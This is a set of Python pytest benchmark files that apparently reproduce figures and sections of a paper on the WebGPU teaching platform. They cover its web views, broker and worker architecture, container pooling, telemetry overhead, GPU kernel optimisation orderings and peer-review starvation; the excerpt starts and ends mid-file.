    assert 0.025 < by_name["HPP 2015"].completion_rate < 0.040
    # magnitudes within 15% of the published counts
    for name, published in PUBLISHED.items():
        got = by_name[name].completions
        assert abs(got - published["completions"]) \
            < 0.15 * published["completions"]
    # certificates only exist from 2014 on, and grew in 2015
    assert by_name["HPP 2013"].certificates == 0
    assert by_name["HPP 2015"].certificates > by_name["HPP 2014"].certificates
