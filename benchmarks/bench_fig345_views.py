"""Figures 3, 4, 5: the Code view, History view, and Roster view.

Renders each view from a seeded course and checks the elements the
paper's screenshots show: the editor + dataset drop-down + compile
controls (Fig. 3), code snippets beside update times (Fig. 4), and the
roster's per-student attempt/grade columns (Fig. 5).
"""

from repro.cluster import ManualClock
from repro.core import Role, WebGPU
from repro.core.course import CourseOffering
from repro.labs import get_lab
from repro.web import (
    render_code_view,
    render_history_view,
    render_roster_view,
)

VECADD = get_lab("vector-add")


def seeded_platform():
    clock = ManualClock()
    platform = WebGPU(clock=clock, num_workers=1, rate_per_minute=600.0)
    course = platform.create_course(
        CourseOffering(code="HPP", year=2015), ["vector-add"])
    prof = platform.users.register("prof@x.com", "Prof", "pw",
                                   role=Role.INSTRUCTOR)
    student = platform.users.register("stu@x.com", "Stu", "pw")
    course.enroll(student.user_id)
    platform.save_code("HPP-2015", student, "vector-add", VECADD.skeleton)
    clock.advance(120)
    platform.save_code("HPP-2015", student, "vector-add", VECADD.solution)
    clock.advance(120)
    platform.submit_for_grading("HPP-2015", student, "vector-add")
    return platform, prof, student


def test_fig3_code_view(benchmark):
    platform, _, student = seeded_platform()
    source = platform.revisions.latest(student.user_id, "vector-add").source
    html = benchmark(render_code_view, VECADD, source)
    # the editor, the compile controls, the per-dataset drop-down
    assert "<textarea" in html and 'data-autosave="on"' in html
    assert "Compile" in html and "Submit for Grading" in html
    assert html.count("<option") == len(VECADD.dataset_sizes)
    assert "vecAdd" in html  # the wb-style skeleton content is shown


def test_fig4_history_view(benchmark):
    platform, _, student = seeded_platform()
    revisions = platform.revisions.history(student.user_id, "vector-add")
    html = benchmark(render_history_view, VECADD, revisions)
    # two columns per row: snippet left, update time right
    assert html.count("<tr>") == 2
    assert "saved at" in html
    assert "snippet" in html


def test_fig5_roster_view(benchmark):
    platform, prof, student = seeded_platform()
    roster = platform.instructor_tools.roster(prof, "vector-add")
    html = benchmark(render_roster_view, VECADD, roster)
    assert "stu@x.com" in html
    # program / question / total grade columns with the student's marks
    assert "Program" in html and "Questions" in html and "Total" in html
    assert "90.0" in html  # 100 minus the unanswered question points
    assert "attempt" in html
