"""Figure 6: the WebGPU 2.0 architecture — replicated broker, pull
workers with requirement tags, replicated metrics database, S3 datasets.

Also the push-vs-pull ablation the redesign is about: under a
heterogeneous fleet, v1's push dispatcher must know every worker's
capabilities and discovers failures the hard way; v2's queue lets
capable workers self-select, and a broker zone failure loses no jobs.
"""

from conftest import print_table

from repro.broker import ConfigServer, ContainerPool, MessageBroker, WorkerDriver
from repro.broker.containers import CUDA_IMAGE, OPENCL_IMAGE
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobStatus
from repro.cluster.pool import PushDispatcher, WorkerPool
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
OPENCL = get_lab("opencl-vecadd")
MPI = get_lab("mpi-stencil")


def mixed_jobs(count=9):
    jobs = []
    for i in range(count):
        lab = (VECADD, OPENCL, MPI)[i % 3]
        jobs.append(Job(lab=lab, source=lab.solution, user=f"u{i}"))
    return jobs


def make_v2_fleet(clock, broker):
    db = Database("metrics")
    cfg = ConfigServer()
    fleets = []
    # two plain CUDA nodes + one big node with OpenCL + MPI + 4 GPUs
    for i in range(2):
        worker = GpuWorker(WorkerConfig(tags=frozenset({"cuda"})),
                           clock=clock, name=f"cuda{i}")
        fleets.append(WorkerDriver(worker, broker, ContainerPool(
            [CUDA_IMAGE]), cfg, db, clock=clock, zone="us-east-1a"))
    big = GpuWorker(WorkerConfig(tags=frozenset({"cuda", "opencl", "mpi"}),
                                 num_gpus=4), clock=clock, name="big0")
    fleets.append(WorkerDriver(big, broker, ContainerPool(
        [CUDA_IMAGE, OPENCL_IMAGE], num_gpus=4), cfg, db,
        clock=clock, zone="us-east-1b"))
    return fleets, db


def run_pull(jobs):
    clock = ManualClock()
    broker = MessageBroker(zones=("us-east-1a", "us-east-1b"))
    drivers, db = make_v2_fleet(clock, broker)
    for job in jobs:
        broker.publish(job, clock.now())
    results = []
    # round-robin pull until drained
    for _ in range(len(jobs) * 3):
        for driver in drivers:
            result = driver.step()
            if result is not None:
                results.append(result)
        if broker.depth() == 0 and len(results) == len(jobs):
            break
    return results, drivers, broker


def test_fig6_pull_serves_heterogeneous_jobs(benchmark):
    results, drivers, broker = benchmark.pedantic(
        lambda: run_pull(mixed_jobs()), rounds=1, iterations=1)

    rows = [{"worker": d.worker.name,
             "capabilities": ",".join(sorted(d.capabilities)),
             "jobs": d.stats.jobs,
             "container_s": f"{d.stats.container_seconds:.1f}"}
            for d in drivers]
    print_table("Figure 6 — pull dispatch on a heterogeneous fleet", rows)

    assert len(results) == 9
    assert all(r.all_correct for r in results)
    by_name = {d.worker.name: d for d in drivers}
    # tagged jobs (OpenCL + MPI) all landed on the capable node,
    # and plain CUDA jobs were shared by everyone
    assert by_name["big0"].stats.jobs >= 6
    assert by_name["cuda0"].stats.jobs + by_name["cuda1"].stats.jobs == \
        9 - by_name["big0"].stats.jobs
    # no node ever needed "the highest common multiple" of requirements
    assert "opencl" not in by_name["cuda0"].capabilities


def test_fig6_zone_failure_loses_no_jobs(benchmark):
    def run():
        clock = ManualClock()
        broker = MessageBroker(zones=("us-east-1a", "us-east-1b"))
        drivers, _ = make_v2_fleet(clock, broker)
        jobs = mixed_jobs(6)
        # half the jobs published, then a whole zone dies
        for job in jobs[:3]:
            broker.publish(job, clock.now(), zone="us-east-1a")
        broker.fail_zone("us-east-1a")
        for job in jobs[3:]:
            broker.publish(job, clock.now(), zone="us-east-1a")  # fails over
        results = []
        for _ in range(40):
            for driver in drivers:
                result = driver.step()
                if result is not None:
                    results.append(result)
            if len(results) == 6:
                break
        return results, broker

    results, broker = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\nfailovers: {broker.failovers}; completed: {len(results)}/6")
    assert broker.failovers >= 3
    assert len(results) == 6
    assert all(r.status is JobStatus.COMPLETED for r in results)


def test_fig6_push_needs_retries_where_pull_does_not(benchmark):
    """The ablation: crash a worker. Push dispatch discovers the dead
    node by failing a dispatch into it; pull simply never hears from it."""
    def run():
        clock = ManualClock()
        # push side
        pool = WorkerPool()
        workers = [GpuWorker(WorkerConfig(), clock=clock, name=f"p{i}")
                   for i in range(3)]
        for w in workers:
            pool.register(w)
        dispatcher = PushDispatcher(pool)
        workers[0].crash()
        push_results = [dispatcher.dispatch(
            Job(lab=VECADD, source=VECADD.solution)) for _ in range(4)]

        # pull side
        broker = MessageBroker()
        db = Database("m")
        cfg = ConfigServer()
        drivers = []
        for i in range(3):
            w = GpuWorker(WorkerConfig(), clock=clock, name=f"q{i}")
            drivers.append(WorkerDriver(w, broker, ContainerPool(
                [CUDA_IMAGE]), cfg, db, clock=clock))
        drivers[0].worker.crash()
        for _ in range(4):
            broker.publish(Job(lab=VECADD, source=VECADD.solution),
                           clock.now())
        pull_results = []
        for _ in range(12):
            for d in drivers:
                r = d.step()
                if r is not None:
                    pull_results.append(r)
        return dispatcher, push_results, pull_results

    dispatcher, push_results, pull_results = benchmark.pedantic(
        run, rounds=1, iterations=1)
    print(f"\npush retries after crash: {dispatcher.retries}; "
          f"pull wasted dispatches: 0 (dead node never polls)")
    assert all(r.status is JobStatus.COMPLETED for r in push_results)
    assert len(pull_results) == 4
    assert all(r.all_correct for r in pull_results)
    # push paid for the crash with at least one failed dispatch; pull
    # never handed a job to the dead node
    assert dispatcher.retries >= 1
