"""Telemetry must be free when it is off.

The kernel interpreter is the platform's hot path, so the telemetry
hook in :meth:`repro.gpusim.host.GpuRuntime.launch` is guarded: with
``telemetry=None`` (the default, and what every seed benchmark uses)
the launch path gains a single ``is None`` test — no wall-clock read,
no histogram update. This benchmark measures three configurations over
repeated closure-engine launches of the tiled matmul kernel:

* ``baseline``  — ``telemetry=None`` (the seed path);
* ``null``      — a :class:`~repro.telemetry.Telemetry` bundle with the
  default :class:`~repro.telemetry.NullTracer` (metrics recorded,
  tracing off) — the configuration every worker runs with;
* ``traced``    — full tracing enabled.

Acceptance (CI ``telemetry-overhead`` job): the ``null`` configuration
stays within 2% of ``baseline`` (min per-launch wall time over
interleaved samples). The ``traced`` overhead is reported
informationally in ``BENCH_telemetry_overhead.json``.

The same pay-for-what-you-use contract covers the per-source-line
profiler (:mod:`repro.profiler`): ``profile=False`` (the default) must
not touch the ledger path. A second measurement runs the simd engine —
the fastest tier, where any fixed per-launch cost is the largest
relative share — comparing ``simd_baseline`` (no telemetry, no
profile) against ``simd_prof_off`` (telemetry on, profile off, the
worker's default) under the same 2% budget, and records the
``simd_prof_on`` ledger-building cost informationally.
"""

from __future__ import annotations

import json
import os
import time
from pathlib import Path

import numpy as np

from conftest import print_table

from repro.gpusim import Device, GpuRuntime
from repro.gpusim.grid import Dim3
from repro.minicuda import compile_source
from repro.telemetry import Telemetry

FAST = bool(os.environ.get("WEBGPU_BENCH_FAST"))
#: matmul edge; per-launch work is O(n^3) interpreter steps. Kept
#: small so each sample is short and many interleaved rounds fit —
#: the median needs lots of samples to shed scheduler noise.
N = 16 if FAST else 24
#: timed launch samples per configuration
SAMPLES = 25 if FAST else 31
#: disabled-path budget relative to baseline
NULL_OVERHEAD_BUDGET = 0.02

MATMUL = """
#define TILE 8
__global__ void matmul(float *A, float *B, float *C, int n) {
  __shared__ float As[TILE][TILE];
  __shared__ float Bs[TILE][TILE];
  int row = blockIdx.y * TILE + threadIdx.y;
  int col = blockIdx.x * TILE + threadIdx.x;
  float acc = 0.0f;
  for (int t = 0; t < n / TILE; t++) {
    As[threadIdx.y][threadIdx.x] = A[row * n + t * TILE + threadIdx.x];
    Bs[threadIdx.y][threadIdx.x] = B[(t * TILE + threadIdx.y) * n + col];
    __syncthreads();
    for (int k = 0; k < TILE; k++)
      acc += As[threadIdx.y][k] * Bs[k][threadIdx.x];
    __syncthreads();
  }
  C[row * n + col] = acc;
}
int main() { return 0; }
"""


def _make_runtime(telemetry: Telemetry | None):
    A = (np.arange(N * N, dtype=np.float32) % 7)
    B = (np.arange(N * N, dtype=np.float32) % 5)
    rt = GpuRuntime(Device(), telemetry=telemetry)
    a = rt.malloc_like(A)
    b = rt.malloc_like(B)
    c = rt.malloc(N * N, np.float32)
    return rt, [a.ptr(), b.ptr(), c.ptr(), N]


def _one_launch(program, rt, args, engine="closure",
                profile=False) -> float:
    """Wall seconds for a single matmul launch."""
    t0 = time.perf_counter()
    program.launch(rt, "matmul", Dim3(N // 8, N // 8), Dim3(8, 8),
                   *args, engine=engine, profile=profile)
    return time.perf_counter() - t0


def _measure(program, runtimes, names) -> dict[str, float]:
    """Min per-launch wall seconds per config over interleaved samples.

    The configs are interleaved, rotating the order each round so CPU
    frequency ramps and scheduler noise hit all of them equally;
    scheduler noise is strictly additive, so the min over many samples
    converges on each config's true launch time.
    """
    samples: dict[str, list[float]] = {name: [] for name in names}
    for r in range(SAMPLES):
        for name in names[r % len(names):] + names[:r % len(names)]:
            rt_args = runtimes[name]
            samples[name].append(_one_launch(program, *rt_args))
    return {name: min(vals) for name, vals in samples.items()}


def test_telemetry_overhead():
    configs = {
        "baseline": None,
        "null": Telemetry(),
        "traced": Telemetry(tracing=True),
    }
    program = compile_source(MATMUL)
    runtimes = {name: _make_runtime(t) for name, t in configs.items()}
    names = list(configs)
    for name in names:  # warmup every config's runtime
        _one_launch(program, *runtimes[name])
    # a real regression (work added to the disabled path) exceeds the
    # budget on every attempt; a scheduler hiccup does not survive the
    # re-measure
    for attempt in range(3):
        walls = _measure(program, runtimes, names)
        base = walls["baseline"]
        overheads = {name: wall / base - 1.0
                     for name, wall in walls.items()}
        if overheads["null"] <= NULL_OVERHEAD_BUDGET:
            break
        print(f"(attempt {attempt + 1}: null at "
              f"{overheads['null']:+.2%}, re-measuring)")

    rows = [{"config": name, "wall_s": f"{walls[name]:.4f}",
             "overhead": f"{overheads[name]:+.2%}"} for name in configs]
    print_table("Telemetry overhead on the kernel-engine hot path", rows)

    # -- per-line profiler: off must be free, on is reported ----------------
    prof_runtimes = {
        "simd_baseline": (*_make_runtime(None), "simd", False),
        "simd_prof_off": (*_make_runtime(Telemetry()), "simd", False),
        "simd_prof_on": (*_make_runtime(Telemetry()), "simd", True),
    }
    prof_names = list(prof_runtimes)
    for name in prof_names:
        _one_launch(program, *prof_runtimes[name])
    for attempt in range(3):
        prof_walls = _measure(program, prof_runtimes, prof_names)
        prof_base = prof_walls["simd_baseline"]
        prof_overheads = {name: wall / prof_base - 1.0
                          for name, wall in prof_walls.items()}
        if prof_overheads["simd_prof_off"] <= NULL_OVERHEAD_BUDGET:
            break
        print(f"(attempt {attempt + 1}: simd_prof_off at "
              f"{prof_overheads['simd_prof_off']:+.2%}, re-measuring)")

    rows = [{"config": name, "wall_s": f"{prof_walls[name]:.4f}",
             "overhead": f"{prof_overheads[name]:+.2%}"}
            for name in prof_names]
    print_table("Per-line profiler overhead on the simd hot path", rows)

    record = {
        "fast_mode": FAST,
        "matmul_n": N,
        "samples": SAMPLES,
        "min_launch_seconds": walls,
        "overhead_vs_baseline": {k: v for k, v in overheads.items()
                                 if k != "baseline"},
        "null_budget": NULL_OVERHEAD_BUDGET,
        "profiler": {
            "engine": "simd",
            "min_launch_seconds": prof_walls,
            "overhead_vs_baseline": {
                k: v for k, v in prof_overheads.items()
                if k != "simd_baseline"},
            "prof_off_budget": NULL_OVERHEAD_BUDGET,
        },
    }
    out_path = Path(__file__).resolve().parent.parent / \
        "BENCH_telemetry_overhead.json"
    out_path.write_text(json.dumps(record, indent=2) + "\n")

    assert overheads["null"] <= NULL_OVERHEAD_BUDGET, (
        f"NullTracer telemetry costs {overheads['null']:+.2%} on the "
        f"kernel hot path (budget {NULL_OVERHEAD_BUDGET:.0%})")
    assert prof_overheads["simd_prof_off"] <= NULL_OVERHEAD_BUDGET, (
        f"disabled profiler costs {prof_overheads['simd_prof_off']:+.2%} "
        f"on the simd hot path (budget {NULL_OVERHEAD_BUDGET:.0%})")
    # a profiled launch must actually have built a ledger
    rt_on = prof_runtimes["simd_prof_on"][0]
    stats_on = program.launch(
        rt_on, "matmul", Dim3(N // 8, N // 8), Dim3(8, 8),
        *prof_runtimes["simd_prof_on"][1], engine="simd", profile=True)
    assert stats_on.line_profile is not None
    assert stats_on.line_profile.total_instructions > 0

    # the traced run must actually have traced something
    tracer = configs["traced"].tracer
    assert configs["traced"].metrics.get("webgpu_kernel_wall_seconds"), \
        "traced config recorded no kernel histograms"
    assert tracer.enabled


if __name__ == "__main__":
    test_telemetry_overhead()
