"""Section VI-B: container pooling hides start-up cost; containers add
no runtime overhead for GPU code (citing Spacek et al. [18]).

Sweep the warm-pool size against a bursty job sequence and measure the
container seconds added per job.
"""

from conftest import print_table

from repro.broker import ConfigServer, ContainerPool, MessageBroker, WorkerDriver
from repro.broker.containers import (
    CONTAINER_RUNTIME_OVERHEAD_S,
    CONTAINER_START_S,
    CUDA_IMAGE,
)
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job, JobKind
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
JOBS = 10


def run_with_pool(warm: int):
    clock = ManualClock()
    broker = MessageBroker()
    driver = WorkerDriver(
        GpuWorker(WorkerConfig(), clock=clock),
        broker,
        ContainerPool([CUDA_IMAGE], warm_per_image=warm),
        ConfigServer(), Database("m"), clock=clock)
    for _ in range(JOBS):
        broker.publish(Job(lab=VECADD, source=VECADD.solution,
                           kind=JobKind.COMPILE_ONLY), clock.now())
    results = driver.drain()
    return driver, results


def test_container_pool_size_vs_latency(benchmark):
    def sweep():
        rows = []
        for warm in (0, 1, 2):
            driver, results = run_with_pool(warm)
            stats = driver.containers.stats()
            per_job = driver.stats.container_seconds / len(results)
            rows.append({
                "warm_pool": warm,
                "cold_starts": stats["cold_starts"],
                "warm_hits": stats["warm_hits"],
                "container_s_per_job": round(per_job, 3),
            })
        return rows

    rows = benchmark.pedantic(sweep, rounds=1, iterations=1)
    print_table("Container pool size vs per-job container overhead", rows)

    by_warm = {r["warm_pool"]: r for r in rows}
    # warm = 0 means every job cold-starts a container
    assert by_warm[0]["cold_starts"] == JOBS
    assert by_warm[0]["container_s_per_job"] >= CONTAINER_START_S
    # any warm pool + replenishment removes cold starts from the
    # serial-job critical path entirely
    assert by_warm[1]["cold_starts"] == 0
    assert by_warm[1]["warm_hits"] == JOBS
    # pooling saves at least the start cost per job on the hot path
    saved = (by_warm[0]["container_s_per_job"]
             - by_warm[1]["container_s_per_job"])
    assert saved >= CONTAINER_START_S * 0.9


def test_container_runtime_overhead_is_zero(benchmark):
    """Previous work [18] measured no Docker overhead on GPU execution;
    the model encodes that: container presence does not slow the job's
    compute, only (pooled-away) lifecycle costs exist."""
    def run():
        driver, results = run_with_pool(warm=1)
        service = [r.service_seconds for r in results]
        return service

    service = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\nmean service {sum(service) / len(service):.2f}s; "
          f"runtime overhead constant = {CONTAINER_RUNTIME_OVERHEAD_S}s")
    assert CONTAINER_RUNTIME_OVERHEAD_S == 0.0
    # services are identical across containers (no per-container drift)
    assert max(service) - min(service) < 1e-9
