"""Ablation: the gpusim timing model preserves the course's pedagogical
orderings — the whole point of the labs' optimization sequence.

* tiled matmul beats the naive kernel (shared-memory tiling);
* SGEMM's register tiling/coarsening beats plain tiled;
* coalesced access beats strided;
* privatized histograms beat contended global atomics.
"""

from conftest import print_table

import numpy as np

from repro.gpusim import Device, GpuRuntime
from repro.labs import execute_lab_source, get_lab


def test_matmul_optimization_ladder(benchmark):
    basic = get_lab("basic-matmul")
    tiled = get_lab("tiled-matmul")
    data = basic.dataset(2)

    def run():
        r_basic = execute_lab_source(basic, basic.solution, data)
        r_tiled = execute_lab_source(tiled, tiled.solution, data)
        return r_basic, r_tiled

    r_basic, r_tiled = benchmark.pedantic(run, rounds=1, iterations=1)

    tx = lambda r: sum(s.global_load_transactions for s in r.kernel_stats)
    rows = [
        {"kernel": "naive", "sim_time_us":
            round(r_basic.kernel_seconds * 1e6, 2),
         "load_transactions": tx(r_basic)},
        {"kernel": "tiled (shared memory)", "sim_time_us":
            round(r_tiled.kernel_seconds * 1e6, 2),
         "load_transactions": tx(r_tiled)},
    ]
    print_table("MatMul: naive vs tiled on the timing model", rows)

    assert r_basic.passed and r_tiled.passed
    # tiling reduces global traffic by roughly TILE_WIDTH (8): require
    # at least 3x and a strictly faster simulated time
    assert tx(r_basic) > 3 * tx(r_tiled)
    assert r_tiled.kernel_seconds < r_basic.kernel_seconds


def test_coalescing_ordering(benchmark):
    rt = GpuRuntime(Device())
    n = 64 * 64
    src = rt.malloc(n, "float")
    dst = rt.malloc(64, "float")

    def coalesced(ctx, src, dst):
        ctx.store(dst.ptr(), ctx.global_x % 64, ctx.load(src.ptr(),
                                                         ctx.global_x % n))

    def strided(ctx, src, dst):
        ctx.store(dst.ptr(), ctx.global_x % 64,
                  ctx.load(src.ptr(), (ctx.global_x * 64) % n))

    def run():
        s_coal = rt.launch(coalesced, (2,), (64,), src, dst)
        s_str = rt.launch(strided, (2,), (64,), src, dst)
        return s_coal, s_str

    s_coal, s_str = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\ncoalesced eff {s_coal.load_efficiency:.2f} vs strided "
          f"{s_str.load_efficiency:.2f}")
    assert s_coal.load_efficiency > 0.9
    assert s_str.load_efficiency < 0.25
    assert s_str.elapsed_seconds > s_coal.elapsed_seconds


def test_atomic_privatization_ordering(benchmark):
    """The Image Equalization lab's lesson: per-block privatized
    histograms slash contention on the hottest address."""
    rt = GpuRuntime(Device())
    values = np.zeros(512, dtype=np.float32)  # all hits on bin 0: worst case

    def contended(ctx, data, hist, n):
        i = ctx.global_x
        if i < n:
            ctx.atomic_add(hist.ptr(), int(ctx.load(data.ptr(), i)), 1)

    def run():
        data = rt.malloc_like(values)
        hist_a = rt.malloc(8, "int")
        s_cont = rt.launch(contended, (4,), (128,), data, hist_a, 512)

        from repro.gpusim import SYNC

        def privatized_kernel(ctx, data, hist, n):
            local = ctx.shared("local", 8, "int")
            t = ctx.threadIdx.x
            if t < 8:
                ctx.shared_store(local, t, 0)
            yield SYNC
            i = ctx.global_x
            if i < n:
                ctx.atomic_add(local, int(ctx.load(data.ptr(), i)), 1)
            yield SYNC
            if t < 8:
                ctx.atomic_add(hist.ptr(), t, ctx.shared_load(local, t))

        hist_b = rt.malloc(8, "int")
        s_priv = rt.launch(privatized_kernel, (4,), (128,), data, hist_b,
                           512)
        assert rt.memcpy_dtoh(hist_a)[0] == rt.memcpy_dtoh(hist_b)[0] == 512
        return s_cont, s_priv

    s_cont, s_priv = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\nglobal-atomic contention {s_cont.max_atomic_contention} vs "
          f"privatized {s_priv.max_atomic_contention}")
    # privatization reduces the hottest-address contention by ~blocks x
    assert s_cont.max_atomic_contention == 512
    assert s_priv.max_atomic_contention <= 512 / 4 + 8
    assert s_priv.elapsed_seconds < s_cont.elapsed_seconds


def test_sgemm_coarsening_beats_plain_tiled(benchmark):
    sgemm = get_lab("sgemm")
    tiled = get_lab("tiled-matmul")
    data = sgemm.dataset(1)  # 16 x 16 square

    def run():
        r_sgemm = execute_lab_source(sgemm, sgemm.solution, data)
        r_tiled = execute_lab_source(tiled, tiled.solution, data)
        return r_sgemm, r_tiled

    r_sgemm, r_tiled = benchmark.pedantic(run, rounds=1, iterations=1)
    tx = lambda r: sum(s.global_load_transactions for s in r.kernel_stats)
    print(f"\nSGEMM loads {tx(r_sgemm)} vs tiled {tx(r_tiled)}")
    assert r_sgemm.passed and r_tiled.passed
    # coarsening reuses each loaded A value twice: fewer transactions
    assert tx(r_sgemm) < tx(r_tiled)


def test_spmv_ell_beats_csr_on_coalescing(benchmark):
    """The SpMV lab's subject: "Sparse matrix formats and performance
    effects". CSR's row-major nonzero walk makes consecutive threads
    read far-apart addresses; ELL's column-major padded layout makes
    them adjacent — better load efficiency on the same matrix."""
    from repro.wb.datasets import gen_spmv

    data = gen_spmv(seed=5, size=64)
    row_ptr = data.inputs["input0"]
    col_idx = data.inputs["input1"]
    values = data.inputs["input2"]
    x_host = data.inputs["input3"]
    n = len(x_host)

    # build the ELL (padded column-major) arrays from the CSR ones
    max_nnz = max(int(row_ptr[i + 1] - row_ptr[i]) for i in range(n))
    ell_cols = np.zeros(n * max_nnz, dtype=np.int32)
    ell_vals = np.zeros(n * max_nnz, dtype=np.float32)
    for i in range(n):
        for slot, j in enumerate(range(row_ptr[i], row_ptr[i + 1])):
            # column-major: slot-th nonzero of every row is contiguous
            ell_cols[slot * n + i] = col_idx[j]
            ell_vals[slot * n + i] = values[j]

    rt = GpuRuntime(Device())
    d_rowptr = rt.malloc_like(row_ptr)
    d_colidx = rt.malloc_like(col_idx)
    d_vals = rt.malloc_like(values)
    d_x = rt.malloc_like(x_host)
    d_out_csr = rt.malloc(n, "float")
    d_ellc = rt.malloc_like(ell_cols)
    d_ellv = rt.malloc_like(ell_vals)
    d_out_ell = rt.malloc(n, "float")

    def csr_kernel(ctx, rp, ci, vals, x, out, n):
        row = ctx.global_x
        if row < n:
            acc = 0.0
            for j in range(ctx.load(rp.ptr(), row),
                           ctx.load(rp.ptr(), row + 1)):
                acc += ctx.load(vals.ptr(), j) * \
                    ctx.load(x.ptr(), ctx.load(ci.ptr(), j))
            ctx.store(out.ptr(), row, acc)

    def ell_kernel(ctx, cols, vals, x, out, n, max_nnz):
        row = ctx.global_x
        if row < n:
            acc = 0.0
            for slot in range(max_nnz):
                value = ctx.load(vals.ptr(), slot * n + row)
                if value != 0.0:
                    acc += value * ctx.load(
                        x.ptr(), ctx.load(cols.ptr(), slot * n + row))
            ctx.store(out.ptr(), row, acc)

    def run():
        s_csr = rt.launch(csr_kernel, ((n + 63) // 64,), (64,),
                          d_rowptr, d_colidx, d_vals, d_x, d_out_csr, n)
        s_ell = rt.launch(ell_kernel, ((n + 63) // 64,), (64,),
                          d_ellc, d_ellv, d_x, d_out_ell, n, max_nnz)
        return s_csr, s_ell

    s_csr, s_ell = benchmark.pedantic(run, rounds=1, iterations=1)
    out_csr = rt.memcpy_dtoh(d_out_csr)
    out_ell = rt.memcpy_dtoh(d_out_ell)
    print(f"\nSpMV formats: CSR eff {s_csr.load_efficiency:.2f} vs ELL "
          f"{s_ell.load_efficiency:.2f}")
    # identical results, better memory behaviour
    assert np.allclose(out_csr, data.expected, atol=1e-3)
    assert np.allclose(out_ell, data.expected, atol=1e-3)
    assert s_ell.load_efficiency > s_csr.load_efficiency * 1.5
