"""Figure 7: worker-node internals — driver, container pool, config
server, metrics.

Checks the three mechanisms the figure describes: per-toolchain
container selection, delete-after-job + replenish pooling, and the
remote-config-change -> driver-restart path; plus the health/metrics
reporting into the replicated database.
"""

from conftest import print_table

from repro.broker import ConfigServer, ContainerPool, MessageBroker, WorkerDriver
from repro.broker.containers import CUDA_IMAGE, OPENCL_IMAGE
from repro.cluster import GpuWorker, ManualClock, WorkerConfig
from repro.cluster.job import Job
from repro.db import Database
from repro.labs import get_lab

VECADD = get_lab("vector-add")
OPENCL = get_lab("opencl-vecadd")


def make_node(clock, warm=1, num_gpus=2):
    broker = MessageBroker()
    db = Database("metrics")
    cfg = ConfigServer(initial=None)
    worker = GpuWorker(WorkerConfig(tags=frozenset({"cuda", "opencl"}),
                                    num_gpus=num_gpus), clock=clock)
    pool = ContainerPool([CUDA_IMAGE, OPENCL_IMAGE], num_gpus=num_gpus,
                         warm_per_image=warm)
    driver = WorkerDriver(worker, broker, pool, cfg, db, clock=clock)
    return driver, broker, db, cfg


def test_fig7_container_lifecycle(benchmark):
    def run():
        clock = ManualClock()
        driver, broker, db, _ = make_node(clock)
        for i in range(8):
            lab = VECADD if i % 2 == 0 else OPENCL
            broker.publish(Job(lab=lab, source=lab.solution), clock.now())
        results = driver.drain()
        return driver, results

    driver, results = benchmark.pedantic(run, rounds=1, iterations=1)
    stats = driver.containers.stats()
    print_table("Figure 7 — container pool over 8 jobs", [dict(
        stats, jobs=len(results))])

    assert len(results) == 8 and all(r.all_correct for r in results)
    # every job's container was deleted afterwards and the pool refilled
    assert stats["deleted"] == 8
    assert stats["replenishments"] == 8
    # with a warm pool, no job paid a cold start
    assert stats["cold_starts"] == 0
    assert stats["warm_hits"] == 8
    # jobs alternated toolchains: both images served work
    containers = {r.extra["container"].split("-")[0] for r in results}
    assert len(containers) == 2
    # containers were mapped onto the node's GPUs
    slots = {r.extra["gpu_slot"] for r in results}
    assert slots == {0, 1}


def test_fig7_config_change_restarts_fleet(benchmark):
    def run():
        clock = ManualClock()
        nodes = []
        shared_cfg = ConfigServer()
        broker = MessageBroker()
        db = Database("metrics")
        for i in range(3):
            worker = GpuWorker(WorkerConfig(), clock=clock, name=f"n{i}")
            nodes.append(WorkerDriver(worker, broker, ContainerPool(
                [CUDA_IMAGE]), shared_cfg, db, clock=clock))
        # all nodes idle-poll once at version 1
        for node in nodes:
            node.step()
        # operator pushes a uniform config change
        shared_cfg.update(warm_containers_per_image=2)
        for node in nodes:
            node.step()
        return nodes

    nodes = benchmark.pedantic(run, rounds=1, iterations=1)
    print(f"\nrestarts per node: {[n.stats.restarts for n in nodes]}")
    # the change restarted every driver exactly once, uniformly
    assert [n.stats.restarts for n in nodes] == [1, 1, 1]
    assert all(n.config.version == 2 for n in nodes)
    assert all(n.containers.warm_per_image == 2 for n in nodes)


def test_fig7_health_and_metrics_reporting(benchmark):
    def run():
        clock = ManualClock()
        driver, broker, db, _ = make_node(clock)
        broker.publish(Job(lab=VECADD, source=VECADD.solution), clock.now())
        driver.step()
        for _ in range(3):
            clock.advance(10.0)
            driver.health_check()
        return db, driver

    db, driver = benchmark.pedantic(run, rounds=1, iterations=1)
    health_rows = db.find("worker_metrics", event="health")
    job_rows = db.find("worker_metrics", event="job")
    print(f"\nmetrics rows: {len(health_rows)} health, {len(job_rows)} job")
    assert len(health_rows) == 3
    assert len(job_rows) == 1
    assert job_rows[0]["payload"]["correct"] is True
    # health payloads carry the container-pool state (Figure 7's
    # "validation of state")
    assert "containers" in health_rows[0]["payload"]
