"""Section IV-D: why peer review was phased out (10% -> 5% -> gone).

"Due to the random assignments, many students were offering reviews
without receiving them. The high drop rate at the beginning of the
course caused low probability of an active student being assigned an
active peer reviewer."

Sweep the drop-out rate and measure the starvation rate (active
students receiving no completed review).
"""

from conftest import print_table

from repro.core.peer_review import PeerReviewEngine
from repro.db import Database


def starvation_for(dropout: float, cohort: int = 300, seed: int = 7):
    engine = PeerReviewEngine(Database(), reviews_per_student=3, seed=seed)
    submitters = list(range(1, cohort + 1))
    engine.assign("lab", submitters)
    keep = int(cohort * (1.0 - dropout))
    active = set(submitters[:keep])
    engine.simulate_completion("lab", active)
    return engine.starvation("lab", active)


def test_peer_review_starvation_vs_dropout(benchmark):
    def sweep():
        return [(dropout, starvation_for(dropout))
                for dropout in (0.0, 0.25, 0.50, 0.75, 0.90)]

    results = benchmark.pedantic(sweep, rounds=1, iterations=1)

    rows = [{
        "dropout_pct": int(dropout * 100),
        "active": report.active_students,
        "reviews_done": f"{report.reviews_completed}"
                        f"/{report.reviews_assigned}",
        "starved_active_pct": round(100 * report.starvation_rate, 1),
    } for dropout, report in results]
    print_table("Peer-review starvation vs drop-out rate", rows)

    by_dropout = dict(results)
